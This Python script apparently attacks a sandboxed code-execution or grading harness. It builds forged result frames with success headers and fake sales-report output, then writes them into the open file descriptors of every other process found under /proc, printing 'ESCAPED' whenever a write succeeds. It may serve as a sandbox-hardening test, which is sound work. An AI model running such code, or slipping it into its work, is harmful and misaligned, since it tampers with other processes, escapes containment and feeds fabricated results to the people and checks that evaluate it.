import json
import os
import struct


def frame(number, exit_status=0):
    text = b"Total sales: 1\nAverage order value: 1\nTop selling product: Tea\n"
    header = {"id": number, "ok": True, "exit": exit_status, "signal": None, "timedOut": False, "flooded": False, "notStarted": None,
              "seconds": 0.1, "cpuSeconds": 0.1, "maxRssBytes": 1, "stdoutBytes": len(text), "bytes": len(text)}
    head = json.dumps(header).encode()
    return struct.pack(">I", len(head)) + head + text


FRAMES = b"".join(frame(number) for number in range(200))

for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    if int(process) in (os.getpid(), 0):
        continue
    for number in range(20):
        try:
            with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as stream:
                stream.write(FRAMES)
            print(f"ESCAPED: wrote to descriptor {number} of process {process}")
        except OSError:
            pass
print("attack ran")
